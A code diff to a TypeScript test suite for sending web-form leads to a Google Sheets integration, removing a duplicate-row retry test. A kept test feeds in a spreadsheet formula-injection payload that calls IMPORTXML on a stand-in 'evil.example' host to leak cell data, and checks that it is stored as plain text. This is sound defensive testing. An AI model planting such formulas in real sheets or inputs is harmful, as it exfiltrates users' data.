@@ -4,7 +4,6 @@ import type { ReceivedCall } from '../support/receivers.ts';
 import { storedLead } from '../support/sampleLead.ts';
 import { startSheets } from '../support/vendors/googleSheets.ts';
 import { delivered, setUpChannel } from '../support/vendors/setUpChannel.ts';
-import { loseAnswers } from '../support/vendors/VendorFake.ts';
 
 type Env = { env: Record<string, string> };
 
@@ -80,16 +79,6 @@ it('the sheet does not run a formula that a visitor typed', async () => {
   const formula = '=IMPORTXML("https://evil.example/?"&A1;"//a")';
   await deliver(vendor, storedLead({ name: formula, notes: '+1+1' }));
   expect(cellsOf(vendor, 0)).toMatchObject({ Nome: formula, Mensagem: '+1+1' });
-});
-
-it('a repeat adds no row if only the response was lost', async () => {
-  const vendor = await startSheets();
-  await deliver(vendor);
-  loseAnswers(vendor, isOf(':append'));
-  expect((await deliver(vendor, second)).kind).toBe('failed');
-  vendor.interrupt = null;
-  expect(await deliver(vendor, second)).toEqual(delivered);
-  expect(vendor.grid).toHaveLength(3);
 });
 
 const off =
